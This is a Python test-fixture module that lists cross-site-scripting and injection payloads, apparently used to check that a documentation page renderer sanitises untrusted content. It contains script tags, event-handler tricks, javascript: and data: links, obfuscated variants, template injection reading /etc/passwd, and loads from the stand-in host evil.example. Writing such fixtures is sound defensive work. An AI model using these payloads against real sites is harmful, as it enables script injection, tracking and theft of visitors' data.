"""What a contributor, or a snippet of theirs, may try: each at its place in a page or in what was captured of it.

Whatever would run calls `alert` or asks `evil.example`: the detector in test_attacks.py sees both.
"""

from dataclasses import dataclass
from typing import Literal

Place = Literal[
    "text", "title", "summary", "author", "link", "sample", "snippet", "stdout", "result", "image", "error", "file"
]
"""text: the section in both languages. image: the bytes that a snippet showed as a PNG. error: name, message and
traceback of what it raised. file: the end of the page's file name."""


@dataclass(frozen=True)
class Attack:
    """One attempt."""

    place: Place
    payload: str


_IMG = "<img src=x onerror=alert(1)>"
_TEXTS = [
    # raw HTML, whole, broken and in disguise
    "<script>alert(1)</script>",
    "a <script src=//evil.example/x.js></script> b",
    _IMG,
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example/><input name=q><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css);body{display:none}</style>",
    "<p style='background:url(//evil.example/x.png)'>x</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<details ontoggle=alert(1)\nopen>\n\nx\n\n</details>",
    "a <br onclick=alert(1)> <kbd\tonfocus=alert(1) autofocus tabindex=0>b</kbd>",
    "<br/onmouseover=alert(1)>",
    "</article></main></body><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml-stylesheet href='//evil.example/x.css'?><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<plaintext>",
    "<kbd><script>alert(1)</script></kbd><sub><img src=x onerror=alert(1)></sub>",
    # links and pictures
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:alert(1))",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example/x)",
    "[x](/\\evil.example/x)",
    "[x](blob:https://evil.example/x)",
    "[x](feed:javascript:alert(1))",
    '[x](https://example.org/ "x\\" onmouseover=alert(1) y=\\"")',
    "[x](https://example.org/&quot;onmouseover=alert(1)&quot;)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://example.org/<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x" onerror="alert(1)](x.png)',
    "![<img src=x onerror=alert(1)>](x.png)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    # tables, headings, lists, code
    f"| {_IMG} | b |\n| --- | :-: |\n| <script>alert(1)</script> | `{_IMG}` |\n",
    "| a |\n| :-: onclick=alert(1) |\n| b |",
    '### <script>alert(1)</script>\n\n### " onmouseover=alert(1) x="\n\n### [x](javascript:alert(1))',
    "### main\n\n### sample\n\n### search-query\n\n### location\n\n### __proto__\n\n### constructor",
    f"> - {_IMG}\n>   1. <script>alert(1)</script>\n",
    f"```html\n{_IMG}\n```",
    f'```"><script>alert(1)</script>\n{_IMG}\n```',
    f"~~~ x onclick=alert(1)\n{_IMG}\n~~~",
    f"    {_IMG}",
    f"`{_IMG}`",
    # entities, direction, control characters, templates
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "&#0;&#x0;0&#0; &#xD800; &#x110000; \x01\x08\x1b[31m\x7f",
    "\u202e>)1(trela=rorreno x=crs gmi<\u202c \u2066<script>\u2069 \u200b<\u200bscript>",
    "＜script＞alert(1)＜/script＞ ﹤img src=x onerror=alert(1)﹥",
    "{{ 7*7 }} {% include '/etc/passwd' %} {{ ''.__class__.__mro__ }} {# x #}",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a\nhref="javascript:alert(1)"\n>x</a>',
    "*".join(["<b>"] * 50) + "[" * 500 + "]" * 500 + ">" * 200,
]
_ANYWHERE = [
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "</title></style></textarea></pre><svg onload=alert(1)>",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "{{ 7*7 }}{% raw %}&lt;b&gt;&#60;script&#62;",
    "--><img src=x onerror=alert(1)><!--",
    "\\u003cscript\\u003ealert(1)\\u2028\u2028</SCRIPT >",
]
_LINKS = [
    "javascript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://example.org/" onmouseover="alert(1)',
    "//evil.example/x",
]
_FILES = [
    '"><img src=x onerror=alert(1)>',
    "' onmouseover=alert(1) x='",
    "{{ 7*7 }}",
    "javascript:alert(1)",
]
_IMAGES = [
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "<!doctype html><script>alert(1)</script>",
    "GIF89a/*<svg onload=alert(1)>*/=alert(1)",
]

ATTACKS: tuple[Attack, ...] = (
    *(Attack("text", payload) for payload in _TEXTS),
    *(
        Attack(place, payload)
        for place in ("title", "summary", "author", "sample", "snippet", "stdout", "result", "error")
        for payload in _ANYWHERE
    ),
    *(Attack("link", payload) for payload in _LINKS),
    *(Attack("file", payload) for payload in _FILES),
    *(Attack("image", payload) for payload in _IMAGES),
)
